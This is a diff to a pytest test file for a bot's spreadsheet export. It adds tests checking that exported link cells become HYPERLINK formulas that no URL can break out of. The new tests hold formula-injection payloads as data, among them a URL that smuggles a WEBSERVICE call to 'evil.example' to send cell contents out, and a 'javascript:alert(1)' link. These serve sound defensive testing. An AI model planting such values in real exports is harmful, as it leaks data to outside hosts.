@@ -11,12 +11,12 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner, Result
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from bot.cli import cli
 from bot.store.db import Store
-from bot.store.export import fit_cell
+from bot.store.export import fit_cell, hyperlink_formula, write_xlsx
 from bot.store.read import EXPORT_FIELDS, iter_export_rows
 
 from .sample_store import KUBAN, ROOT, Sample
@@ -194,7 +194,7 @@ def test_xlsx(sample: Sample, tmp_path: Path) -> None:
     out = tmp_path / "out.xlsx"
     r = run("export", "--db", sample.db, "--format", "xlsx", "-o", out, "--all-posts")
     assert r.exit_code == 0, r.output
-    ws = openpyxl.load_workbook(out).active
+    ws = openpyxl.load_workbook(out, data_only=True).active  # a link's value, as pandas reads it
     header = [c.value for c in ws[1]]
     assert header[:5] == ["channel_id", "channel_title", "username", "message_id", "link"]
     assert header == list(EXPORT_FIELDS)  # named as in the CSV and JSON Lines
@@ -210,6 +210,47 @@ def test_xlsx(sample: Sample, tmp_path: Path) -> None:
     assert row["rules"] == "desertion; regiment"
     assert isinstance(row["date"], datetime)
     assert by_key[(KUBAN, 502)]["text"].startswith("Ёлку")
+
+
+def formula_text(formula: str) -> list[str]:
+    """The operands of an Excel formula as Excel parses it (openpyxl's tokenizer), quotes undone."""
+    from openpyxl.formula import Tokenizer
+
+    tokens = Tokenizer(formula).items
+    assert [t.type for t in tokens] == ["FUNC", "OPERAND", "FUNC"], formula  # HYPERLINK( "text" )
+    return [t.value[1:-1].replace('""', '"') for t in tokens if t.type == "OPERAND"]
+
+
+def test_xlsx_links_are_clickable_formulas_no_url_can_break(tmp_path: Path) -> None:
+    """A link cell is =HYPERLINK("url") (streamed, where a worksheet hyperlink was held in memory
+    to the end): it reads as the URL (pandas, openpyxl data_only), a quote in a URL stays in the
+    one text, and a URL no formula can hold (not http(s), past 255 characters) is plain text."""
+    import openpyxl
+
+    links = ['https://t.me/x/1"),WEBSERVICE("http://evil.example/"&A1&"', "javascript:alert(1)",
+             "https://t.me/c/1/" + "9" * 300, "https://t.me/Kuban_Online/501"]
+    out = tmp_path / "links.xlsx"
+    rows = [dict.fromkeys(EXPORT_FIELDS, None) | {"channel_id": 1, "message_id": i, "link": link}
+            for i, link in enumerate(links)]
+    assert write_xlsx(rows, out) == len(links)
+    column = EXPORT_FIELDS.index("link")
+    shown = [row[column] for row in openpyxl.load_workbook(out, data_only=True).active.iter_rows(min_row=2, values_only=True)]
+    assert shown == links
+    cells = [row[column] for row in openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True)]
+    assert formula_text(cells[0]) == [links[0]] and formula_text(cells[3]) == [links[3]]
+    assert cells[1:3] == links[1:3]  # text, not formulas
+
+
+@given(st.text(max_size=300).map(lambda s: "https://t.me/" + s) | st.text(max_size=40))
+@example('https://t.me/x/1"),WEBSERVICE("http://evil.example/")&"')
+@settings(max_examples=200, deadline=None)
+def test_hyperlink_formula_holds_any_url_as_one_text(url: str) -> None:
+    formula = hyperlink_formula(url)
+    if not url.lower().startswith(("https://", "http://")) or len(url.encode("utf-16-le", "surrogatepass")) > 510:
+        assert formula is None
+        return
+    assert formula is not None and formula.startswith("=HYPERLINK(")
+    assert formula_text(formula) == [url]
 
 
 def test_xlsx_needs_no_temporary_folder_and_leaves_nothing_beside_it(sample: Sample, tmp_path: Path,
@@ -251,7 +292,7 @@ def test_xlsx_keeps_an_id_past_excels_15_digits_whole(tmp_path: Path) -> None:
                                "text": "В части задержали дезертира."}, ensure_ascii=False) + "\n", encoding="utf-8")
     assert run("replay", src, "--db", db, "--rules", ROOT / "rules", "--alerts", "none").exit_code == 0
     assert run("export", "--db", db, "-o", out, "--all-posts").exit_code == 0
-    row = dict(zip(EXPORT_FIELDS, next(openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True))))
+    row = dict(zip(EXPORT_FIELDS, next(openpyxl.load_workbook(out, data_only=True).active.iter_rows(min_row=2, values_only=True))))
     assert row["channel_id"] == 1117628569 and row["message_id"] == str(2**63 - 1)
     assert row["link"].endswith(f"/{2**63 - 1}")
 
